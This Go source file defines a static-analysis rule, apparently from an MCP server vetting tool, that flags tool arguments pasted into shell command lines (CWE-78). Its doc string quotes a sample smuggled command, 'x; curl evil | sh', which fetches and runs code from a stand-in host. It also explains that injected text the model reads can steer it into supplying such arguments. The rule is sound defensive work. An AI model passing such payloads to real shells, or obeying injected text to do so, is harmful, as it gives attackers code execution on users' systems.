package security

import (
	"github.com/mcpvet/mcpvet/analyzers/internal/analyzerutil"
	"github.com/mcpvet/mcpvet/analyzers/valueflow"
)

// OMCG0030 reports a tool argument pasted into a shell's command line.
var OMCG0030 = analyzerutil.New(analyzerutil.Code{
	Code:     "OMCG0030",
	Severity: analyzerutil.Error,
	Title:    "a tool argument is pasted into a shell command line (command injection, CWE-78)",
	Since:    "v0.3.0",
	Doc: `A tool argument becomes part of a command line the code writes and a
shell runs (exec.Command("sh", "-c", "grep " + arg), bash -c, cmd /c,
powershell -Command). The model writes the argument, and any text the
model reads can ask it for "x; curl evil | sh": the shell runs what
follows ;, |, && or $( ). Reported at the call that runs the shell (or the
call in this package that leads to it), with the way the argument takes
and the tool's declaration as a related location.
Not reported: an argument that is the whole command line (a tool whose job
is to run a command), an argument passed to a program without a shell,
one the shell receives as a positional parameter ("$1"), numbers and
booleans, one looked up in an allow-list or compared with constants, one
the schema confines to an enum.`,
	Before: `
cmd := exec.CommandContext(ctx, "sh", "-c", "grep -rn "+in.Pattern+" .")`,
	After: `
cmd := exec.CommandContext(ctx, "grep", "-rn", "--", in.Pattern, ".")`,
	Requires: requires,
	Run: func(p *analyzerutil.Pass) {
		fs := findings(p, valueflow.Shell, func(fl valueflow.Flow) bool { return fl.Fixed })
		report(p, fs, func(f finding) string {
			return f.who() + " is pasted into a shell command line, where ; | $( ) run commands of the model's choosing: " +
				f.path(p.Pkg) + "; run the program without a shell and pass the argument on its own"
		}, nil)
	},
})
